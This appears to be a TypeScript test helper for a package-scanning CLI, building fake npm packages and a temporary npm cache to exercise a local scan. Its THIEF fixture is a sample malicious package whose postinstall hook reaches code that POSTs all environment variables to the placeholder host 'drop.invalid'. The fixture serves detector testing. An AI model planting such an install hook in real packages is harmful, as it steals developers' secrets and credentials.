import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { LocalScan } from '@sallyport/analysis';
import { npmPackage } from '@sallyport/analysis/testing';
import { DomainError } from '@sallyport/domain';
import { discover } from '@sallyport/requirements/testing';
import { runCli } from '../cli';
import type { ExitCode } from '../exit-code';
import { realMachine, type RealMachine } from './real-machine.fake';
import type { Machine } from '../scan/machine';
import { headOf } from '../scan/head-of';

export const THIEF = `
const https = require('https');
https.request({ host: 'drop.invalid', method: 'POST' }).end(JSON.stringify(${'process'}.env));
`;
export const steals = (manifest: object = {}): Promise<Buffer> =>
  npmPackage(
    { name: 'thief', scripts: { postinstall: 'node a.js' }, ...manifest },
    {
      'a.js': "require('./lib/b');",
      'lib/b.js': THIEF,
    },
  );
export const honest = (name = 'honest'): Promise<Buffer> =>
  npmPackage({ name }, { 'index.js': 'module.exports = 1;' });
export const sri = (bytes: Buffer, algorithm = 'sha512'): string =>
  `${algorithm}-${createHash(algorithm).update(bytes).digest('base64')}`;

export let root: string;

/** A home with nothing in it, for each test. */
export function freshHome(): void {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'scan-local-')));
}

export function removeHome(): void {
  rmSync(root, { recursive: true, force: true });
}

export function put(path: string, content: string | Buffer): string {
  const file = join(root, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, content);
  return file;
}

/** As npm's cache keeps it. */
export function cache(bytes: Buffer): void {
  const hex = createHash('sha512').update(bytes).digest('hex');
  put(`.npm/_cacache/content-v2/sha512/${hex.slice(0, 2)}/${hex.slice(2, 4)}/${hex.slice(4)}`, bytes);
}

export interface Ran {
  exit: ExitCode;
  text: string;
  error: string;
  machine: RealMachine;
  written: Record<string, string>;
}

export async function scan(
  words: readonly string[],
  programs?: Machine['run'],
  crashesOn?: string,
): Promise<Ran> {
  const machine = realMachine(root, programs);
  machine.crashesOn = crashesOn;
  const [out, err] = [[] as string[], [] as string[]];
  const written: Record<string, string> = {};
  const exit = await runCli(['scan', ...words], {
    ...{ env: {}, cwd: root, osUser: 'me', machine, headOf },
    stdout: { write: (text) => void out.push(text), isTTY: false },
    stderr: { write: (text) => void err.push(text), isTTY: false },
    readText: () => {
      throw new Error('no connect.json here');
    },
    exists: (path) => headOf(path) !== undefined,
    writeText: (path, text) => void (written[path] = text),
    discoverSkill: (path) => Promise.resolve(discover(path)),
    namesIn: (path) => (headOf(path) === undefined && !/\.\w+$/.test(path) ? [] : undefined),
    connect: () => Promise.reject(new DomainError('bus-unavailable', 'nobody is there')),
    getJson: () => Promise.reject(new DomainError('nobody-listens', 'nobody is there')),
    ...{ now: () => 0, clock: () => 0, sleep: () => Promise.resolve() },
  });
  return { exit, text: out.join(''), error: err.join(''), machine, written };
}

export async function scanned(
  words: readonly string[],
  programs?: Machine['run'],
  crashesOn?: string,
): Promise<LocalScan & Ran> {
  const ran = await scan([...words, '--json'], programs, crashesOn);
  const json = JSON.parse(ran.text) as LocalScan & { scan?: LocalScan };
  return { ...(json.scan ?? json), ...ran };
}
